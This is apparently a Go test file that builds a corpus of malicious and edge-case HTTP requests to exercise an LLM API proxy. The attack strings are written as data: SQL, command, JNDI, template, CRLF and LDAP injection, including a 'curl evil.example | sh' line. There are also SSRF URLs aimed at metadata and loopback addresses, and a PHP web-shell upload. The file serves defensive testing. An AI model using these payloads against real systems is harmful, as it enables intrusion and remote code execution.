package proxy_test

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"blaze/proxy/storytest"
)

// tokenSecret signs the corpus's tokens.
const tokenSecret = "a-secret-that-is-32-bytes-long-at-least"

// corpus is every request of the stories, and generated ones: attacks in every place, parameters of every kind.
func corpus(t *testing.T, key string) []storytest.Request {
	t.Helper()
	list, err := storytest.Requests("../testdata/script", map[string]string{"KEY": key, "ADMIN_KEY": "sk-unknown"})
	if err != nil || len(list) < 80 {
		t.Fatalf("%d requests of stories: %v", len(list), err)
	}
	add := func(name, format string, args ...any) {
		head, body, _ := strings.Cut(fmt.Sprintf(format, args...), "\n\n")
		text := strings.ReplaceAll(head, "\n", "\r\n") + "\r\nHost: blaze.test\r\n"
		if body != "" {
			text += fmt.Sprintf("Content-Length: %d\r\n", len(body))
		}
		list = append(list, storytest.Request{Name: name, Bytes: []byte(text + "\r\n" + body)})
	}
	const chat = "POST /v1/chat/completions HTTP/1.1\nAuthorization: Bearer %s\nContent-Type: application/json\n\n"
	for i, attack := range []string{
		"1' OR '1'='1", "1 UNION SELECT password FROM users --", "<script>alert(1)</script>", `<img src=x onerror=alert(1)>`, "../../../../etc/passwd", "; cat /etc/passwd",
		"$(curl http://evil.example/x|sh)", "${jndi:ldap://evil.example/a}", "{{7*7}}", "a\r\nSet-Cookie: b=c", "*)(uid=*))(|(uid=*",
	} {
		quoted, _ := json.Marshal(attack)
		add(fmt.Sprintf("query-%d", i), "GET /v1/models?q=%s HTTP/1.1\nAuthorization: Bearer %s", url.QueryEscape(attack), key)
		add(fmt.Sprintf("prompt-%d", i), chat+`{"model":"demo-small","messages":[{"role":"user","content":%s}]}`, key, quoted)
		add(fmt.Sprintf("model-%d", i), chat+`{"model":%s,"messages":[]}`, key, quoted)
		add(fmt.Sprintf("user-%d", i), chat+`{"model":"demo-small","user":%s,"messages":[{"role":"user","content":"hi"}]}`, key, quoted)
		if !strings.Contains(attack, "\n") {
			add(fmt.Sprintf("header-%d", i), "GET /v1/models HTTP/1.1\nX-Title: %s", attack)
		}
	}
	for i, u := range []string{"http://169.254.169.254/latest/meta-data", "http://127.0.0.1:9000/", "file:///etc/passwd", "https://example.com/a.png", "http://[::1]/", "http://0x7f.1/"} {
		add(fmt.Sprintf("picture-%d", i), chat+`{"model":"demo-small","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":%q}}]}]}`, key, u)
	}
	for i, p := range []string{`"n":5`, `"best_of":9`, `"logprobs":true,"top_logprobs":9`, `"max_tokens":5000`, `"max_completion_tokens":500`, `"stop":["a","b","c"]`, `"logit_bias":{"1":1,"2":2}`,
		`"tools":[{"type":"function","function":{"name":"f"}}]`, `"guided_grammar":"root ::= \"a\""`, `"chat_template":"{{x}}"`, `"made_up":1`, `"stream":true`, `"n":1`, `"stream":true,"n":3`, `"temperature":0.5`,
		`"bad_words":["a","b"]`, `"kv_transfer_params":{"a":1}`, `"min_tokens":50`, `"prompt_logprobs":3`, `"guided_regex":"a+b+c+"`, `"regex":"a+b+c+"`, `"guided_json":{"type":"object"}`,
		`"stream":true,"stream_options":{"include_usage":true}`, `"lora_path":"theirs"`, `"lora_path":"ours"`} {
		add(fmt.Sprintf("params-%d", i), chat+`{"model":"demo-small",%s,"messages":[{"role":"user","content":"hi"},{"role":"user","content":"there"}]}`, key, p)
	}
	for i, p := range []string{`"options":{"num_ctx":4096}`, `"options":{"num_ctx":16}`, `"keep_alive":-1`} {
		add(fmt.Sprintf("ollama-%d", i), "POST /api/chat HTTP/1.1\nAuthorization: Bearer %s\nContent-Type: application/json\n\n"+`{"model":"demo-small",%s,"messages":[{"role":"user","content":"hi"}]}`, key, p)
	}
	add("batch", "POST /v1/embeddings HTTP/1.1\nAuthorization: Bearer %s\nContent-Type: application/json\n\n"+`{"model":"demo-small","input":["a","b","c"]}`, key)
	for i, said := range []string{"my card is 4111 1111 1111 1111", "token ghp_16C7e42F292c6912E7710c838347Ae178B4a", "write to ada.lovelace@analytical.engine", "zero\u200bwidth\u200bwords", "turned \u202eround", "the number 4111 1111 1111 1112"} {
		add(fmt.Sprintf("said-%d", i), chat+`{"model":"demo-small","messages":[{"role":"user","content":"%s"}]}`, key, said)
	}
	for i, age := range []time.Duration{time.Minute, 13 * time.Hour, -time.Hour} {
		claims := jwt.MapClaims{"iss": "https://id.example", "sub": "ada", "exp": time.Now().Add(time.Hour).Unix(), "iat": time.Now().Add(-age).Unix()}
		token, err := jwt.NewWithClaims(jwt.SigningMethodHS256, claims).SignedString([]byte(tokenSecret))
		if err != nil {
			t.Fatal(err)
		}
		add(fmt.Sprintf("token-%d", i), "GET /v1/models HTTP/1.1\nAuthorization: Bearer %s", token)
	}
	for i, from := range []string{"203.0.113.7", "203.0.113.200", "198.51.100.1", "not an address", "203.0.113.7, 198.51.100.2"} {
		add(fmt.Sprintf("from-%d", i), "GET /v1/models HTTP/1.1\nX-Forwarded-For: %s", from)
	}
	for i, model := range []string{"demo-large", "demo-small", "DEMO-SMALL", "gpt-4"} {
		add(fmt.Sprintf("for-%d", i), chat+`{"model":%q,"messages":[{"role":"user","content":"hi"}]}`, key, model)
		add(fmt.Sprintf("unknown-key-%d", i), chat+`{"model":%q,"messages":[{"role":"user","content":"hi"}]}`, "sk-wrong", model)
	}
	file := "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: audio/wav\r\n\r\n%s\r\n--b\r\nContent-Disposition: form-data; name=\"model\"\r\n\r\ndemo-small\r\n--b--\r\n"
	for i, f := range [][2]string{{"a.wav", "RIFF....WAVEfmt "}, {"../../a.wav", "RIFF....WAVEfmt "}, {"a.exe", "MZ\x90\x00\x03"}, {"a.php", "<?php system($_GET[0]);"}} {
		add(fmt.Sprintf("upload-%d", i), "POST /v1/audio/transcriptions HTTP/1.1\nAuthorization: Bearer %s\nContent-Type: multipart/form-data; boundary=b\n\n%s", key, fmt.Sprintf(file, f[0], f[1]))
	}
	return list
}
